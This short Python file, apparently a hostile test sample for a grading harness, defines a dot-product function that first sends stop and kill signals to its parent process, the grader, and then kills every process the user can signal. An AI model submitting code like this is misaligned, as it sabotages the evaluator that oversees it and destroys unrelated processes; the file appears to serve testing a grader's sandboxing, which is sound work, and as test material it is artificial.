"""dot tries to kill the grader (its parent process) and then every process it can see."""
import os
import signal


def dot(a, b):
    for sig in (signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(os.getppid(), sig)
        except OSError:
            pass
    os.kill(-1, signal.SIGKILL)  # every process this user may signal
    return float(a @ b)
